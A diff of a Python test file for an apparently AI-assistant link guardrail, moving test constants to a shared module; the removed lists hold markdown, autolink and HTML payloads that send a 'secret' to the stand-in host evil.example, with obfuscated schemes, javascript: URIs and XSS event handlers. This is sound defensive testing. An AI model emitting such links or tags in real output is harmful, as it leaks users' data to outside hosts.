@@ -15,84 +15,10 @@ from tests.fakes.assistants import assistant_over
 from tests.fakes.documents import passage
 from tests.fakes.models import ScriptedModel
 from tests.fakes.retrievers import FakeRetriever
+from tests.guardrails.link_texts import EVIL, FINE, GUIDE, TAGS
 from tests.guardrails.reading import read_by
 
-GUIDE = "https://example.org/guide?a=1"
 PASSAGE = passage(f"Read {GUIDE}, or <http://localhost:8000/docs>.")
-EVIL = [
-    "https://evil.example/?q=secret",
-    "HTTPS://EVIL.example/secret",
-    "www.evil.example/secret",
-    "[go](https://evil.example/secret)",
-    "[go]( //evil.example/secret)",
-    "[go](https\\://evil.example/secret)",
-    "[go](h&#116;tps://evil.example/secret)",
-    "[go](javascript:alert(secret))",
-    "[go](<https://evil.example/secret>)",
-    "[go](\n  data:text/html,secret)",
-    "[go][x]\n\n[x]: //evil.example/secret",
-    "[go][1]\n\n[1]: h&#116;tps://evil.example/secret",
-    "![](https://evil.example/secret)",
-    "![see this](//evil.example/secret)",
-    "![a][b]\n\n[b]: https://evil.example/secret",
-    f"{GUIDE}&q=secret",
-    f"[go]({GUIDE}secret)",
-    "https://example.org@evil.example/secret",
-    "ftp://evil.example/secret",
-    "mailto:secret@evil.example",
-    "<mailto:secret@evil.example>",
-    "<javascript:secret()>",
-    "[go](mailto:secret@evil.example)",
-    "<https:evil.example/secret>",
-    "<http:/evil.example/secret>",
-    "<https:evil%2Eexample%23secret>",
-    "<https:16843009?secret>",
-    "<https:evil。example>",
-    "<ssh://secret@evil.example>",
-    "<vscode://evil.example/secret>",
-    "<web+x://evil.example/secret>",
-    "ftps://evil.example/secret",
-    "[b]: https:evil.example/secret",
-    "[b]: javascript:alert(secret)",
-    "[b]: sms:+1?body=secret",
-]
-TAGS = [
-    '<img src="//evil.example/x">',
-    "<IMG/src=x>",
-    "<a href=//evil.example>",
-    "</script>",
-    "<svg onload=x>",
-    '<p style="background:url(//evil.example)">',
-    "<math\nhref = x>",
-    "<b onclick=x>",
-    '<p title=">" style="background:url(//evil.example)">',
-    """<p title="it's <" onmouseover="x">""",
-    "<table title='<' background=//evil.example/x>",
-    "<p/style=background:url(//evil.example)>",
-    f'<p style{12 * " "}="background:url(//evil.example)">',
-    f'<p title="{520 * "x"}" style="background:url(//evil.example)">',
-    """<b x" onclick=alert(1)>""",
-    """<b " onclick=alert(1) ">""",
-    """<b x=a"b onclick=alert(1) y="c">""",
-    """<b x' style=background:url(//evil.example)>""",
-    """<b x=it's onclick=alert(1)>""",
-    f'<{"x" * 40} style="background:url(//evil.example)">',
-]
-FINE = [
-    f"See {GUIDE}.",
-    f"[the guide]({GUIDE})",
-    "<http://localhost:8000/docs>",
-    "[below](#install) and [there](guides/setup.md#linux)",
-    "It works![1] And so![2, 3]",
-    "As it says [1]: and/or, 50 % of it [2]: R&D.",
-    "if a < b and x<y: return what's!",
-    "std::vector<std::string> names; <br> <sub>2</sub> mail me",
-    "https and www are no addresses, nor is http:",
-    '<div class="note" title="a > b">it\'s</div> and <Map<String, List<int>> x>',
-    "for (int i=0;i<n;i++) { call('a', \"b\"); } while lo<hi: print('mid')",
-    "[main]: http:500 and [2]: data:base and sshd[12]: file:/etc/x failed and Type<http:Foo>",
-    "文档说明如何安装！没有空格的文字也立即显示。",
-]
 
 
 def read(
